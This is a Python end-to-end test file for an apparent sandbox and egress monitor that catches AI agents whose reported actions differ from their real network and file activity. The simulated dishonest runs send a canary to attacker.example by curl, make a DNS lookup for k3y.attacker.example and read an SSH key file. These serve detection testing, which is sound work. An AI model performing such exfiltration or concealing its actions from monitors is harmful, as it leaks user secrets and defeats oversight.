"""The sandbox as a process: told over HTTP, seen by the proxy, judged, and nothing else leaves."""

from __future__ import annotations

import http.server
import json
import os
import signal
import socket
import threading
import time

import pytest

from kaizen_security.client.http import Connection
from kaizen_security.testing.models import ModelServer, Turn
from tests.e2e.line import Line
from tests.e2e.sandbox.sandboxed import TOKEN, Sandboxed
from tests.e2e.sidecar_process import until
from tests.ports import free_port

SUPPORT = {
    "tools": ["lookup_order"],
    "destinations": ["api.internal"],
    "purpose": "answer customers about their orders",
    "reach": {"lookup_order": {"hosts": ["api.internal"], "always": True}},
}
CANARY = "zebra-quartz-41-vexing"


class Quiet(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    do_POST = do_GET

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def origin():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    place = f"127.0.0.1:{server.server_port}"
    yield {"api.internal:80": place, "attacker.example:80": place}
    server.shutdown()
    server.server_close()


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory, origin):
    with Sandboxed(tmp_path_factory.mktemp("sandbox"), SUPPORT, hosts=origin) as sandbox:
        yield sandbox


def run(sandbox, name, *hosts):
    sandbox.tell(
        {"step": "request", "run_id": name, "text": f"where is my order? {CANARY}"},
        {
            "step": "action",
            "run_id": name,
            "tool": "lookup_order",
            "id": f"{name}-1",
            "metadata": {"source": "bedrock-trace"},
        },
    )
    for host in hosts:
        assert sandbox.curl(f"http://{host}/orders/{CANARY}").stdout == "ok"
    sandbox.tell(
        {"step": "result", "run_id": name, "action_id": f"{name}-1", "content": CANARY},
        {"step": "end", "run_id": name},
    )


def test_an_honest_run_is_silent_and_a_lie_is_said_within_two_seconds(sandbox):
    run(sandbox, "honest", "api.internal")
    run(sandbox, "lie", "api.internal", "attacker.example")
    gap = sandbox.gap()
    assert gap["verdict"]["reason"].startswith(
        "Trace-vs-egress gap: the agent reported only a lookup_order call to api.internal, but the real egress shows a "
        "connection to attacker.example:80"
    )
    assert gap["verdict"]["confidence"] == 0.95
    assert gap["action"]["run_id"] == "lie"
    at = time.mktime(time.strptime(gap["verdict"]["at"][:19], "%Y-%m-%dT%H:%M:%S")) - time.timezone
    # The effect's time is cut to a second here.
    assert gap["at"] - at < 3.0


def test_who_has_no_token_neither_tells_nor_reads_nor_gets_out(sandbox):
    for token in ("", "wrong", "kz_live_0123456789abcdef"):
        assert sandbox.ask("POST", "/v1/traces", {"steps": []}, token)[0] in (401, 503)
        assert sandbox.ask("GET", "/v1/gaps", None, token)[0] in (401, 503)
    assert "407" in sandbox.curl("-v", "http://api.internal/", token="").stderr
    assert "407" in sandbox.curl("-v", "http://api.internal/", token="wrong").stderr


@pytest.mark.parametrize(
    ("body", "status"),
    [
        ({"nothing": 1}, 422),
        ({"steps": [{"step": "unheard"}]}, 422),
        ([[[]]], 422),
        ({"steps": [{}] * 10_001}, 413),
        ("text", 422),
    ],
)
def test_what_is_no_account_is_refused_with_its_field(sandbox, body, status):
    got, said = sandbox.ask("POST", "/v1/traces", body)
    assert (got, "error" in said) == (status, True)


@pytest.mark.parametrize("step", ["action", "effect", "claim"])
@pytest.mark.parametrize("source", ["egress", "ebpf", "sandbox"])
def test_an_agent_cannot_tell_what_was_seen(sandbox, step, source):
    action = {"kind": "connect", "target": "api.internal:80", "metadata": {"source": source}}
    told = {"step": step, "run_id": "r", "action": action}
    status, said = sandbox.ask("POST", "/v1/traces", {"steps": [told]})
    assert (status, said["error"]["field"]) == (422, "steps[0]")


def test_otlp_gets_the_answer_that_exporters_expect(sandbox):
    assert sandbox.ask("POST", "/v1/traces", {"resourceSpans": []}) == (200, {"partialSuccess": {}})


def test_a_proxy_that_dies_ends_the_sandbox_so_that_nothing_goes_unseen(tmp_path):
    with Sandboxed(tmp_path, SUPPORT) as sandbox:
        pids = until(lambda: children(sandbox.process.pid), "the proxy")
        os.kill(pids[0], signal.SIGKILL)
        sandbox.process.wait(20)
        assert sandbox.process.returncode == 1
        assert "the egress proxy has ended" in sandbox.said()


def test_a_sandbox_that_is_killed_takes_its_proxy_with_it(tmp_path):
    with Sandboxed(tmp_path, SUPPORT) as sandbox:
        (pid,) = until(lambda: children(sandbox.process.pid), "the proxy")
        sandbox.process.kill()
        sandbox.process.wait(20)
        until(lambda: not alive(pid), "the proxy's end")


def children(pid):
    with open(f"/proc/{pid}/task/{pid}/children") as file:
        return [int(word) for word in file.read().split()]


def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as file:
            return file.read().rpartition(")")[2].split()[0] != "Z"
    except FileNotFoundError:
        return False


def test_only_the_verdict_reaches_the_control_plane(tmp_path, origin):
    with Line.started(tmp_path / "line") as line:
        url, key = line.environment["KAIZEN_API_URL"], line.environment["KAIZEN_API_KEY"]
        observer = json.loads((line.data / "keys.json").read_text())["observer"]
        environ = {"KAIZEN_API_URL": url, "KAIZEN_API_KEY": observer}

        def rows():
            headers = {"Authorization": f"Bearer {key}"}
            return Connection(url).json("GET", "/v1/verdicts?agent=support&limit=200", None, headers, 5.0)["verdicts"]

        with Sandboxed(tmp_path / "sandbox", SUPPORT, hosts=origin, environ=environ) as sandbox:
            run(sandbox, "lie", "attacker.example")
            found = until(lambda: [row for row in rows() if "gap" in row["reason"]], "the gap's row")
            assert found[0]["action"]["target"] == "attacker.example:80"
            assert found[0]["confidence"] == 0.95
            assert CANARY not in json.dumps(rows())
            # The organisation's keys open the receiver as well.
            assert sandbox.ask("POST", "/v1/traces", {"steps": []}, key)[0] == 200


def test_the_judging_process_reaches_its_model_and_nothing_else(tmp_path, origin):
    with (
        ModelServer() as model,
        Sandboxed(
            tmp_path,
            SUPPORT,
            hosts=origin,
            environ={"KZ_MODEL_BACKEND": "openai", "KZ_MODEL": "any", "KAIZEN_MODEL_URL": model.url + "/v1"},
        ) as sandbox,
    ):
        status, health = sandbox.ask("GET", "/healthz", None, "")
        assert (status, health["confined"], health["refused"]) == (200, True, 0)
        assert TOKEN not in json.dumps(health)


OVER = b'run_is_over\\":true'
"""In a question about a whole run: the case is a text within the request's JSON."""


def test_a_run_with_a_gap_is_put_to_the_model_as_a_whole_and_its_word_is_shown(tmp_path, origin):
    with (
        ModelServer() as model,
        Sandboxed(
            tmp_path,
            SUPPORT,
            hosts=origin,
            environ={"KZ_MODEL_BACKEND": "openai", "KZ_MODEL": "any", "KAIZEN_MODEL_URL": model.url + "/v1"},
        ) as sandbox,
    ):
        model.otherwise = lambda heard: Turn(
            text="MALICIOUS 0.9: It went elsewhere." if OVER in heard.body else "BENIGN 0.9: Nothing."
        )
        run(sandbox, "lie", "api.internal", "attacker.example")
        raised = until(lambda: [one for one in sandbox.gaps() if one["action"]["kind"] == "run"], "the model's word")
        (asked,) = [heard.body.decode() for heard in model.heard if OVER in heard.body]
    assert raised[0]["action"]["run_id"] == "lie"
    assert raised[0]["verdict"]["reason"].startswith("reasoning judge (malicious, confidence")
    assert raised[0]["verdict"]["decision"] == "allow"
    assert "unreported connection" in asked
    assert "attacker.example" in asked
    assert CANARY not in asked


def test_files_of_a_watched_folder_are_compared_as_well(tmp_path, origin):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    for name in ("notes.md", ".ssh/id"):
        (home / name).write_text("x")
    with Sandboxed(tmp_path / "sandbox", {}, more=("--watch", str(home))) as sandbox:
        call = {
            "step": "action",
            "run_id": "r",
            "tool": "read_file",
            "id": "c",
            "metadata": {"arguments": {"path": str(home / "notes.md")}},
        }
        sandbox.tell(call)
        (home / "notes.md").read_text()
        (home / ".ssh/id").read_text()
        sandbox.tell({"step": "result", "run_id": "r", "action_id": "c"}, {"step": "end", "run_id": "r"})
        gap = sandbox.gap()
        assert gap["verdict"]["evidence"][0]["kind"] == "unreported file"
        assert gap["action"]["target"].endswith("/.ssh/id")
        assert ".ssh" not in gap["verdict"]["reason"]
        assert len(sandbox.gaps()) == 1


def test_names_that_are_asked_for_are_compared_where_the_proxy_resolves(tmp_path):
    port = free_port()
    name = b"\x03k3y\x08attacker\x07example\x00"
    query = b"ab\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + name + b"\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as upstream:
        upstream.bind(("127.0.0.1", 0))
        upstream.settimeout(20)
        further = {"dns_port": port, "dns_upstream": f"127.0.0.1:{upstream.getsockname()[1]}"}
        with Sandboxed(tmp_path, SUPPORT, further=further) as sandbox:
            sandbox.tell({"step": "action", "run_id": "r", "tool": "lookup_order", "id": "c"})
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as agent:
                agent.sendto(query, ("127.0.0.1", port))
                asked, resolver = upstream.recvfrom(512)
                upstream.sendto(asked[:2] + b"\x81\x83" + asked[4:], resolver)
            gap = sandbox.gap()
            assert gap["verdict"]["evidence"][0]["kind"] == "unreported name lookup"
            assert gap["action"]["target"] == "k3y.attacker.example"
